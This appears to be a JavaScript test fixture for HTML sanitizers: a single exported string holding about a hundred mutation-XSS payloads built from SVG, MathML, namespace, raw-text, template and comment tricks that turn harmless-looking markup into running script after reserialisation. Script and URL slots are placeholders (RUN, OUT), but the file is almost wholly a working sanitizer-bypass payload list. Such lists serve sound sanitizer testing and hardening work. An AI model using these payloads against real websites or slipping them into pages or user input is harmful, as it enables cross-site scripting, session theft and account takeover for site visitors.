/**
 * Markup that is harmless when it is parsed and runs when it is serialised and parsed again: SVG, MathML, namespaces,
 * raw texts, templates, comments. Most are variations of what was found in sanitizers since 2019.
 */
export const NESTED = `
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href="data:text/javascript,RUN"/></svg>
<svg><script xlink:href="data:text/javascript,RUN"/></svg>
<svg><script>pwned&#40;NUMBER&#41;</script></svg>
<svg><script><![CDATA[RUN]]></script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><animate onend=RUN attributeName=x dur=.01s>
<svg><set onbegin=RUN attributeName=x>
<svg><animateTransform onbegin=RUN attributeName=transform>
<svg><animateMotion onbegin=RUN dur=1s>
<svg><a><animate attributeName=href values="javascript:RUN" /><text y=20>x</text></a></svg>
<svg><a><animate attributeName=xlink:href values="javascript:RUN" /><text y=20>x</text></a></svg>
<svg><a><set attributeName=href to="javascript:RUN" /><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href from="javascript:RUN" to="x" begin=0s fill=freeze /><text y=20>x</text></a></svg>
<svg><image><animate attributeName=href values="OUT;x" dur=1s /></image></svg>
<svg><use><animate attributeName=href values="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='RUN' /></svg>#x" /></use></svg>
<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><a href="&#106;avascript:RUN"><text y=20>x</text></a></svg>
<svg><a xmlns:xl="http://www.w3.org/1999/xlink" xl:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=RUN /></svg>#x">
<svg><use xlink:href="OUT#x"></use></svg>
<svg><image href=x onerror=RUN></image></svg>
<svg><image href=OUT></image></svg>
<svg><feImage href=OUT></feImage></svg>
<svg><filter id=f><feImage xlink:href=OUT /></filter><rect filter="url(#f)" width=1 height=1 /></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>
<svg><style>*{background:url(OUT)}</style></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">RUN</handler></svg>
<svg><discard onbegin=RUN></discard></svg>
<svg><rect fill="url(OUT)" width=1 height=1 onfocus=RUN tabindex=0 autofocus></rect></svg>
<svg><mpath href=OUT onbegin=RUN></mpath></svg>
<svg><switch><foreignObject requiredExtensions="http://www.w3.org/1999/xhtml"><img src=x onerror=RUN></foreignObject></switch></svg>
<svg contentScriptType=text/javascript onload=RUN></svg>
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<svg></p><textarea><title><style></textarea><img src=x onerror=RUN></style></title></svg>
<svg><p><style><g title="</style><img src=x onerror=RUN>">
<svg><b><style><!--</style><img src=x onerror=RUN>--></b></svg>
<svg><mtext><table><mglyph><style><img src=x onerror=RUN></style></table></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=RUN>"></style></h1>
<math><mtext><img src=x onerror=RUN></mtext></math>
<math href="javascript:RUN">x</math>
<math><a xlink:href="javascript:RUN">x</a></math>
<math><maction actiontype="statusline#OUT" xlink:href="javascript:RUN">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror=RUN></style></annotation-xml></math>
<math><mi><style><img src=x onerror=RUN></style></mi></math>
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=RUN>">
<math><mtext><table><tr><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=RUN>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=RUN>">
<table><form><td></form><form><math><mtext><mglyph><style></math><img src=x onerror=RUN>
<table><caption><svg><desc><table><caption></table><style><a title="</style><img src=x onerror=RUN>">
<noscript><p title="</noscript><img src=x onerror=RUN>">
<noscript><style></noscript><img src=x onerror=RUN></style></noscript>
<noscript><!-- </noscript><img src=x onerror=RUN> -->
<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>
<noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>
<xmp><p title="</xmp><img src=x onerror=RUN>">
<xmp><svg><b><style><b title='</style><img src=x onerror=RUN>'></xmp>
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<plaintext><img src=x onerror=RUN>
<title><p title="</title><img src=x onerror=RUN>">
<textarea><p title="</textarea><img src=x onerror=RUN>">
<textarea>&lt;/textarea&gt;<img src=x onerror=RUN></textarea>
<select><style></select><img src=x onerror=RUN></style></select>
<select><template><style><a rel="</style></template></select><img src=x onerror=RUN>"></style></template></select>
<select><iframe></select><img src=x onerror=RUN>
<select><option><style></option></select><img src=x onerror=RUN></style>
<option><style></option></select><b><img src=x onerror=RUN></style></option>
<style><style/><img src=x onerror=RUN>
<style><!--</style><img src=x onerror=RUN>--></style>
<style></style><style><img src="</style><img src=x onerror=RUN>">
<style title="</style><img src=x onerror=RUN>"></style>
<style>a{content:"</style><img src=x onerror=RUN>"}</style>
<template><img src=x onerror=RUN></template>
<template><template><script>RUN</script></template></template>
<template shadowrootmode=open><img src=x onerror=RUN></template>
<div><template shadowrootmode=closed><script>RUN</script></template></div>
<div><template shadowrootmode=open shadowrootclonable shadowrootserializable><style>:host{background:url(OUT)}</style></template></div>
<table><td background="x" onresize=RUN></td><img src=x onerror=RUN></table>
<table><tr><td><svg><desc><td><style><img src=x onerror=RUN></style></table>
<a><table><a><svg><style><a title="</style><img src=x onerror=RUN>">
<b><i></b><svg><p></i><style><a id="</style><img src=x onerror=RUN>">
<p><svg><desc><p><style><a id="</style><img src=x onerror=RUN>"></p>
<dl><dd><svg><dd><style><a id="</style><img src=x onerror=RUN>">
<ruby><rt><svg><title><rt><style><a id="</style><img src=x onerror=RUN>">
<!--><img src=x onerror=RUN>-->
<!---><img src=x onerror=RUN>-->
<!-- --!><img src=x onerror=RUN>
<!-- <!-- --> <img src=x onerror=RUN> -->
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<!--[if IE]>--><img src=x onerror=RUN><!--<![endif]-->
<!-- TICK<img/src=x onerror=RUN>TICK -->
<![CDATA[<img src=x onerror=RUN>]]>
<svg><![CDATA[><img src=x onerror=RUN>]]></svg>
<math><![CDATA[</math><img src=x onerror=RUN>]]>
<?xml version="1.0"?><img src=x onerror=RUN>
<?xml-stylesheet type="text/xsl" href="data:text/xml,RUN"?><img src=x onerror=RUN>
<?php echo "<img src=x onerror=RUN>" ?>
<? foo="><img src=x onerror=RUN>">
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=RUN>">]>&y;<img src=x onerror=RUN>
<!x><img src=x onerror=RUN>
</br style=animation:a onanimationend=RUN><img src=x onerror=RUN>
</x title="><img src=x onerror=RUN>">
<xml id=x><a><b>&lt;img src=x onerror=RUN&gt;</b></a></xml><img src=x onerror=RUN>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script><img src=x onerror=RUN>
<html:img xmlns:html="http://www.w3.org/1999/xhtml" src=x onerror=RUN><img src=x onerror=RUN>
`;
